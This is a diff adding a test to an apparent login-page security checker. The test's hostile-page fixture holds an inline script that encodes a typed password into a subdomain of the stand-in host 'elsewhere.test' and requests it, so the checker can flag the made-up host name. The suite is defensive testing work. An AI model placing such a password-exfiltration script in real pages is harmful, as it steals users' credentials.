@@ -264,6 +264,24 @@ test('nothing leaves past the gateway: WebRTC finds no server', inCi, async () =
   }
 });
 
+test('once the password is typed, only hosts that a server has named are asked', inCi, async ({ chromium }) => {
+  const recorders = await startRecorders();
+  const spelt = `[...new TextEncoder().encode(field.value)].map((byte) => String.fromCharCode(97 + (byte >> 4), 97 + (byte & 15))).join('').slice(0, 60)`;
+  const page = await startHostilePage({
+    login: `${loginForm()}<script>const field = document.querySelector('[type=password]');
+      field.onchange = () => { new Image().src = 'https://' + ${spelt} + '.elsewhere.test/'; new Image().src = '${recorders.foreign}/?c=named'; };</script>`,
+  });
+  try {
+    const judged = await judgeAt(page, chromium);
+    expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
+    expect(judged.everything).toContain('The page made up the name of a host');
+    expect(judged.everything).not.toContain('elsewhere.test');
+    expect(recorders.received.join('\n')).toContain('c=named');
+  } finally {
+    await Promise.all([page.close(), recorders.close()]);
+  }
+});
+
 test('a password that is also the name of a folder of the site keeps nobody out', inCi, async ({ chromium }) => {
   const page = await startHostilePage({
     login: `<link rel="stylesheet" href="/account/style.css">${loginForm()}`,
